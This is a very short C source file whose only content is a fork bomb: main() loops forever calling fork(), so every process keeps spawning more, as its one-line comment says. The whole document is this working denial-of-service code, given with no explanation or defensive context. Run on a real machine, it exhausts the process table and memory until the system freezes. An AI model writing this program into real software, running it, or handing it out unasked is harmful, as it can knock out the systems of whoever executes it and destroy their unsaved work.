// Every process forks, for ever.
#include <unistd.h>

int main() {
  for (;;) fork();
}
